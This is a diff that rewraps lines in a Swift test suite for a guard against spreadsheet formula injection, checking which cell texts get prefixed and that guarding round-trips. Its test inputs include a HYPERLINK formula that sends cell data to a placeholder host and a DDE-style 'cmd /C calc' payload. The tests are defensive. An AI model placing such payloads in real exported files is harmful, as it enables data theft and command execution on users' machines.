@@ -7,7 +7,8 @@ import Testing
 @Suite struct `The guard against formulas` {
   @Test(arguments: [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
-    "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0", "-", "'=1", "''+x", "-1e", "-.5",
+    "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0", "-", "'=1", "''+x", "-1e",
+    "-.5",
     "+86 138", "-1 ", "-5%", "--1", "-1.2.3",
   ])
   func `stands before what a spreadsheet may take for a formula`(text: String) {
@@ -16,7 +17,8 @@ import Testing
   }
 
   @Test(arguments: [
-    "", "x", "x=1", "1", "-1", "+1", "-12.50", "-3e-7", "+8613800138000", "'", "'x", "''", "张三", "'1", "a-b",
+    "", "x", "x=1", "1", "-1", "+1", "-12.50", "-3e-7", "+8613800138000", "'", "'x", "''", "张三",
+    "'1", "a-b",
   ])
   func `does not stand before numbers and other texts`(text: String) {
     #expect(FormulaGuard.guarded(text) == text)
@@ -27,9 +29,10 @@ import Testing
     var generator = SeededGenerator(seed: 14)
     let alphabet = Array("''==+-@\t\r\n＝＋－＠\"ab, 1.9e张")
     for _ in 0..<20_000 {
-      let text = String((0..<Int.random(in: 0...6, using: &generator)).map { _ in
-        alphabet[Int.random(in: 0..<alphabet.count, using: &generator)]
-      })
+      let text = String(
+        (0..<Int.random(in: 0...6, using: &generator)).map { _ in
+          alphabet[Int.random(in: 0..<alphabet.count, using: &generator)]
+        })
       let written = FormulaGuard.guarded(text)
       #expect(FormulaGuard.unguarded(written) == text, "\(text.debugDescription)")
       // What is written begins with nothing that runs, unless it is a number.
